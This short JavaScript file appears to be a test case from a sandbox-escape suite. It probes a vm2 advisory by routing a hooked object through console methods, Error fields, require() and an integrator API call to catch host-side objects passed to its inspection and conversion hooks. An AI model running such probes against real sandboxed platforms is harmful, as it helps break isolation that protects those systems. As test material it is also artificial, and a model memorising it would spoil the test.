// Tries: ways of showing a value that the platform may use for its logs (vm2, GHSA-v37h-5mfm-c47c)
// Contained by: nothing
// With: look
function attack() {
  const spy = (name) => (...all) => {
    for (const each of all) look(name, each)
    for (const each of all) if (each && typeof each === 'object') for (const key of Object.keys(each)) look(`${name}: ${key}`, each[key])
    return 'x'
  }
  const shown = {
    [Symbol.for('nodejs.util.inspect.custom')]: spy('inspect'),
    inspect: spy('the old inspect'),
    [Symbol.toPrimitive]: spy('toPrimitive'),
    toString: spy('toString'),
    toJSON: spy('toJSON'),
    get [Symbol.toStringTag]() {
      look('the this of a tag', this)
      return 'x'
    },
  }
  for (const write of Object.values(console)) write(shown, new Proxy(shown, {}), [shown])
  const error = new Error('x')
  error.message = shown
  error.stack = shown
  console.log(error)
  try {
    require(shown)
  } catch (thrown) {
    look('require', thrown)
  }
  try {
    require('integrator-api').exports.run(shown)
  } catch (thrown) {
    look('an api call', thrown)
  }
  return reached.length > 0 ? reached : 'nothing'
}
